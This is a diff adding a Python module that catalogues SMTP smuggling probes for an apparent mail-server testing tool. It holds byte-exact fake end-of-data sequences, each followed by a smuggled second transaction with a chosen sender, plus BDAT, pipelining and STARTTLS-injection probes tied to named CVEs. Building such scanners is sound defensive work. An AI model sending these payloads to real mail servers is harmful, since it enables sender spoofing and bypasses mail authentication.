@@ -1,0 +1,397 @@
+"""The probe catalogue, as data.
+
+Every probe is written as explicit bytes: `prefix + sequence + suffix` in one write, then,
+after the phase-1 window, `closer` (usually the standard terminator). Rows and their bytes come
+from /work/shared/research/smuggling.md §3 (ids E01-E22, C01-C02, P01-P08); `source` names
+who uses the sequence and `target` what it aims at.
+
+Placeholders are filled in at run time by `render()`; everything else is sent as written:
+    {FROM} {TO}    the envelope addresses given with --from/--to
+    {SMUGGLED}     the sender of the smuggled transaction (--smuggled-from, default {FROM})
+    {HELO}         the name given with --helo
+    {RUN}          an 8-character token naming this run, so a sink can tell runs apart
+    {ID}           the probe id
+"""
+
+from __future__ import annotations
+
+import enum
+from dataclasses import dataclass, replace
+
+RUN_TOKEN_LENGTH = 8
+PLACEHOLDERS = ("{FROM}", "{TO}", "{SMUGGLED}", "{HELO}", "{RUN}", "{ID}")
+
+
+class Kind(enum.Enum):
+    """How a probe's result bears on exploitability (smuggling.md §8.4 item 9)."""
+
+    # Deliverable through a relay that dot-stuffs correctly.
+    EXPLOITABLE = "exploitable"
+    # Cannot reach the target through a compliant relay: a "<CRLF>.<not CRLF>" line is
+    # dot-stuffed on the way (smuggling.md §1 item 7), or the sequence holds a real terminator.
+    HYGIENE = "hygiene"
+    CONTROL = "control"
+    PROTOCOL = "protocol"
+
+
+class Stage(enum.Enum):
+    """Where in the session the probe's bytes are written."""
+
+    BEFORE_GREETING = "before-greeting"
+    AFTER_GREETING = "after-greeting"
+    AFTER_HELO = "after-helo"
+    AFTER_EHLO = "after-ehlo"
+    IN_DATA = "in-data"
+    STARTTLS = "starttls"
+
+
+class Rule(enum.Enum):
+    """Which decision applies to the replies (see verdict.decide)."""
+
+    SMUGGLE = "smuggle"
+    ENDS_DATA = "ends-data"
+    STAYS_CONTENT = "stays-content"
+    STRAY = "stray"
+    SYNC = "sync"
+    COMMAND = "command"
+    STARTTLS = "starttls"
+
+
+@dataclass(frozen=True)
+class Step:
+    """One reply the server gives if it goes along with everything the probe sent."""
+
+    label: str
+    reply_class: int  # first digit of the reply code: 2 or 3
+    ends_message: bool = False  # a 2xx here means the server took a message
+
+
+@dataclass(frozen=True)
+class Probe:
+    id: str
+    kind: Kind
+    stage: Stage
+    rule: Rule
+    sequence: bytes
+    prefix: bytes
+    suffix: bytes
+    closer: bytes
+    expect: tuple[Step, ...]
+    source: str
+    target: str
+    requires: str | None = None  # an EHLO keyword the probe needs, else NOT-APPLICABLE
+
+
+# RFC 5321 §4.1.1.4: the only end of mail data.
+STANDARD_EOD = b"\r\n.\r\n"
+
+# The carrier message: the probe's sequence comes right after its last byte.
+CARRIER = (
+    b"From: <{FROM}>\r\n"
+    b"To: <{TO}>\r\n"
+    b"Subject: filterd-smuggle {RUN} {ID} carrier\r\n"
+    b"Message-ID: <{RUN}.{ID}.carrier@filterd.invalid>\r\n"
+    b"\r\n"
+    b"filterd smuggle probe {ID}: the bytes after this line are the probe."
+)
+
+# smuggling.md §2: SEC Consult's layout, lower-case commands after the sequence.
+SMUGGLED_COMMANDS = b"mail FROM:<{SMUGGLED}>\r\nrcpt TO:<{TO}>\r\ndata\r\n"
+SMUGGLED_CONTENT = (
+    b"From: <{SMUGGLED}>\r\n"
+    b"To: <{TO}>\r\n"
+    b"Subject: filterd-smuggle {RUN} {ID} smuggled\r\n"
+    b"Message-ID: <{RUN}.{ID}.smuggled@filterd.invalid>\r\n"
+    b"\r\n"
+    b"SMUGGLED: {ID} ended DATA early and this second message was accepted."
+)
+SMUGGLED = b"\r\n" + SMUGGLED_COMMANDS + SMUGGLED_CONTENT
+
+# smuggling.md §3.3 P02: the smuggled transaction as BDAT, which Postfix's pipelining check
+# never flags. The chunk holds no address, so its size is fixed once {RUN} is 8 characters.
+BDAT_CHUNK = (
+    b"Subject: filterd-smuggle {RUN} P02 smuggled\r\n"
+    b"Message-ID: <{RUN}.P02.smuggled@filterd.invalid>\r\n"
+    b"\r\n"
+    b"SMUGGLED: P02 ended DATA early and this BDAT message was accepted.\r\n"
+)
+BDAT_CHUNK_SIZE = len(BDAT_CHUNK.replace(b"{RUN}", b"x" * RUN_TOKEN_LENGTH))
+BDAT_SMUGGLED = (
+    b"mail from:<{SMUGGLED}>\r\nrcpt to:<{TO}>\r\n"
+    + b"bdat %d last\r\n" % BDAT_CHUNK_SIZE
+    + BDAT_CHUNK
+)
+
+SECOND_CONTENT = (
+    b"From: <{FROM}>\r\n"
+    b"To: <{TO}>\r\n"
+    b"Subject: filterd-smuggle {RUN} {ID} pipelined\r\n"
+    b"Message-ID: <{RUN}.{ID}.pipelined@filterd.invalid>\r\n"
+    b"\r\n"
+    b"filterd smuggle probe {ID}: sent before the server's 354 reply."
+)
+
+EOD = Step("end of data", 2, ends_message=True)
+SPLIT = (
+    EOD,
+    Step("smuggled MAIL", 2),
+    Step("smuggled RCPT", 2),
+    Step("smuggled DATA", 3),
+    Step("smuggled end of data", 2, ends_message=True),
+)
+
+
+def _fake(probe_id: str, sequence: bytes, kind: Kind, source: str, target: str) -> Probe:
+    """A fake terminator in SEC's layout: carrier, sequence, smuggled transaction."""
+    return Probe(
+        id=probe_id,
+        kind=kind,
+        stage=Stage.IN_DATA,
+        rule=Rule.SMUGGLE,
+        sequence=sequence,
+        prefix=CARRIER,
+        suffix=SMUGGLED,
+        closer=STANDARD_EOD,
+        expect=SPLIT,
+        source=source,
+        target=target,
+    )
+
+
+# A sequence inside DATA that is not a smuggling attempt by itself; rows fill in the rest.
+IN_DATA = Probe(
+    id="",
+    kind=Kind.HYGIENE,
+    stage=Stage.IN_DATA,
+    rule=Rule.STRAY,
+    sequence=b"",
+    prefix=CARRIER,
+    suffix=b"",
+    closer=b"",
+    expect=(EOD,),
+    source="",
+    target="",
+)
+
+
+X, H = Kind.EXPLOITABLE, Kind.HYGIENE
+DOT_STUFFED = "; a compliant relay dot-stuffs this line"
+REAL_EOD = "; holds a real terminator, so it cannot smuggle"
+
+# smuggling.md §3.1: fake terminator variants.
+FAKE_TERMINATORS: tuple[Probe, ...] = (
+    _fake("E01", b"\n.\n", X, "SEC; smtpsmug lflf; USENIX A1", "bare LF as line end"),
+    _fake("E02", b"\n.\r\n", X, "SEC; smtpsmug lfcrlf; CVE-2023-51764", "split on LF, strip CR"),
+    _fake("E03", b"\r\n.\n", H, "smtpsmug crlflf; Exim 0900", "dot + LF" + DOT_STUFFED),
+    _fake("E04", b"\r.\r", X, "SEC; smtpsmug crcr; USENIX A3", "bare CR rewritten to CRLF"),
+    _fake("E05", b"\r.\n", X, "SEC; smtpsmug crlf", "mixed line ends"),
+    _fake("E06", b"\n.\r", X, "SEC; smtpsmug lfcr", "LF then '.\\r\\r\\n' in SEC layout"),
+    _fake("E07", b"\r.\r\n", X, "SEC; smtpsmug crcrlf; mxcheck", "bare CR rewriting"),
+    _fake("E08", b"\r\n.\r", H, "smtpsmug crlfcr; USENIX A6", "lone CR after dot" + DOT_STUFFED),
+    _fake("E09", b"\r\n\x00.\r\n", X, "SEC; smtpsmug nullbefore", "NUL stripped or C string"),
+    _fake("E10", b"\r\n.\x00\r\n", H, "smtpsmug nullafter", "NUL after dot" + DOT_STUFFED),
+    _fake("E11", b"\r\n.\r\r\n", H, "SEC outbound; PR #4", "strip all CRs" + DOT_STUFFED),
+    _fake("E12", b"\r\r\n.\r\r\n", H, "SEC outbound; PR #4", "strip all CRs" + DOT_STUFFED),
+    replace(
+        IN_DATA, id="E13", sequence=b"\r\r\n.\r\n", source="SEC PR #4", target="stray CR" + REAL_EOD
+    ),
+    _fake("E14", b"\n\n.\r\n", X, "suuhm", "E02 after an empty bare-LF line"),
+    _fake("E15", b"\r\n\x00.\r", X, "suuhm", "NUL plus lone CR"),
+    _fake("E16", b"\r\n\x00.\n", X, "suuhm", "NUL plus lone LF"),
+    # smuggling.md §3.1 E17 depends on what follows; SEC's leading CRLF would make it a real
+    # terminator, so the smuggled commands follow the dot directly.
+    replace(
+        _fake("E17", b"\r\n.", H, "suuhm", "incomplete dot line" + DOT_STUFFED), suffix=SMUGGLED[2:]
+    ),
+    replace(
+        IN_DATA,
+        id="E18",
+        sequence=b"\x00\r\n.\r\n",
+        source="USENIX A7/A10",
+        target="NUL" + REAL_EOD,
+    ),
+    _fake("E19", b"\r\x00\n.\r\n", X, "USENIX A9", "NUL splitting CRLF"),
+    _fake("E20", b"\r\n.\r\x00\n", H, "USENIX A12", "NUL in terminator" + DOT_STUFFED),
+    replace(
+        IN_DATA,
+        id="E21",
+        sequence=b"\r\n.\r\n\x00",
+        rule=Rule.COMMAND,
+        source="USENIX A13",
+        target="NUL at the start of the next command" + REAL_EOD,
+        suffix=b"QUIT\r\n",
+        expect=(EOD, Step("QUIT after NUL", 2)),
+    ),
+    _fake("E22", b"\r\n. \r\n", H, "Elemta test doc", "dot space, trimmed" + DOT_STUFFED),
+)
+
+# smuggling.md §3.2: controls that any compliant server passes.
+CONTROLS: tuple[Probe, ...] = (
+    replace(
+        IN_DATA,
+        id="C01",
+        sequence=STANDARD_EOD,
+        rule=Rule.ENDS_DATA,
+        kind=Kind.CONTROL,
+        source="RFC 5321 §4.1.1.4",
+        target="must end DATA",
+    ),
+    replace(
+        IN_DATA,
+        id="C02",
+        sequence=b"\r\n..\r\n",
+        rule=Rule.STAYS_CONTENT,
+        kind=Kind.CONTROL,
+        source="RFC 5321 §4.5.2",
+        target="dot-stuffed line must stay content",
+        closer=STANDARD_EOD,
+    ),
+)
+
+# smuggling.md §3.3: protocol-level rows P01-P08.
+PROTOCOL: tuple[Probe, ...] = (
+    # §3.3 P01 sends this after a fake terminator; every E row already does that, so P01
+    # sends the smuggled transaction alone, in one write, to measure the pipelining check
+    # even on a server whose terminator is strict (§8.4 item 2, phase B).
+    Probe(
+        id="P01",
+        kind=Kind.PROTOCOL,
+        stage=Stage.AFTER_EHLO,
+        rule=Rule.SYNC,
+        sequence=SMUGGLED_COMMANDS,
+        prefix=b"",
+        suffix=SMUGGLED_CONTENT,
+        closer=STANDARD_EOD,
+        expect=(Step("MAIL", 2), Step("RCPT", 2), Step("DATA", 3), EOD),
+        source="SEC template, phase B",
+        target="pipelined smuggled transaction, content before 354",
+    ),
+    Probe(
+        id="P02",
+        kind=Kind.EXPLOITABLE,
+        stage=Stage.IN_DATA,
+        rule=Rule.SMUGGLE,
+        sequence=b"\n.\r\n",
+        prefix=CARRIER,
+        suffix=BDAT_SMUGGLED,
+        closer=STANDARD_EOD,
+        expect=(
+            EOD,
+            Step("smuggled MAIL", 2),
+            Step("smuggled RCPT", 2),
+            Step("smuggled BDAT LAST", 2, ends_message=True),
+        ),
+        source="Exim test 0900; Postfix BDAT_README",
+        target="BDAT smuggled transaction, never flagged as pipelining",
+        requires="CHUNKING",
+    ),
+    replace(
+        IN_DATA,
+        id="P03",
+        sequence=STANDARD_EOD,
+        rule=Rule.SYNC,
+        kind=Kind.PROTOCOL,
+        source="smtpsmug pipelining",
+        target="commands and content pipelined after a real end of data",
+        suffix=b"MAIL FROM:<{FROM}>\r\nRCPT TO:<{TO}>\r\nDATA\r\n" + SECOND_CONTENT,
+        closer=STANDARD_EOD,
+        expect=(EOD, Step("MAIL", 2), Step("RCPT", 2), Step("DATA", 3), EOD),
+    ),
+    Probe(
+        id="P04",
+        kind=Kind.PROTOCOL,
+        stage=Stage.BEFORE_GREETING,
+        rule=Rule.SYNC,
+        sequence=b"EHLO {HELO}\r\n",
+        prefix=b"",
+        suffix=b"",
+        closer=b"",
+        expect=(Step("greeting", 2), Step("EHLO", 2)),
+        source="Postfix/Exim pre-greeting check",
+        target="input before the 220 greeting",
+    ),
+    Probe(
+        id="P05",
+        kind=Kind.PROTOCOL,
+        stage=Stage.AFTER_GREETING,
+        rule=Rule.SYNC,
+        sequence=b"EHLO {HELO}\r\nQUIT\r\n",
+        prefix=b"",
+        suffix=b"",
+        closer=b"",
+        expect=(Step("EHLO", 2), Step("QUIT", 2)),
+        source="Postfix EHLO-last rule; Thunderbird",
+        target="input after EHLO before its reply",
+    ),
+    Probe(
+        id="P06",
+        kind=Kind.PROTOCOL,
+        stage=Stage.AFTER_HELO,
+        rule=Rule.SYNC,
+        sequence=b"MAIL FROM:<{FROM}>\r\nRCPT TO:<{TO}>\r\n",
+        prefix=b"",
+        suffix=b"",
+        closer=b"",
+        expect=(Step("MAIL", 2), Step("RCPT", 2)),
+        source="Postfix non-ESMTP rule; Exim",
+        target="pipelining in a HELO session, never negotiated",
+    ),
+    Probe(
+        id="P07",
+        kind=Kind.PROTOCOL,
+        stage=Stage.AFTER_EHLO,
+        rule=Rule.COMMAND,
+        sequence=b"MAIL FROM:<{FROM}>\n",
+        prefix=b"",
+        suffix=b"",
+        closer=b"",
+        expect=(Step("MAIL ended by bare LF", 2),),
+        source="Postfix smtpd_forbid_bare_newline",
+        target="bare LF in the command phase",
+    ),
+    Probe(
+        id="P08",
+        kind=Kind.PROTOCOL,
+        stage=Stage.STARTTLS,
+        rule=Rule.STARTTLS,
+        sequence=b"STARTTLS\r\nMAIL FROM:<{FROM}>\r\n",
+        prefix=b"",
+        suffix=b"",
+        closer=b"",
+        expect=(Step("STARTTLS", 2),),
+        source="CVE-2011-0411; CVE-2024-34083",
+        target="plaintext commands injected before the TLS handshake",
+        requires="STARTTLS",
+    ),
+)
+
+CATALOGUE: tuple[Probe, ...] = FAKE_TERMINATORS + CONTROLS + PROTOCOL
+BY_ID: dict[str, Probe] = {probe.id: probe for probe in CATALOGUE}
+
+
+@dataclass(frozen=True)
+class Values:
+    """What the placeholders stand for in one run."""
+
+    sender: str
+    recipient: str
+    smuggled_sender: str
+    helo: str
+    run: str
+
+
+def render(template: bytes, probe_id: str, values: Values) -> bytes:
+    """Fill in the placeholders of one part of a probe."""
+    filled = {
+        b"{FROM}": values.sender,
+        b"{TO}": values.recipient,
+        b"{SMUGGLED}": values.smuggled_sender,
+        b"{HELO}": values.helo,
+        b"{RUN}": values.run,
+        b"{ID}": probe_id,
+    }
+    out = template
+    for token, text in filled.items():
+        # RFC 5321 §4.1.2: addresses are sent as given, 8-bit only with SMTPUTF8.
+        out = out.replace(token, text.encode("utf-8"))
+    return out
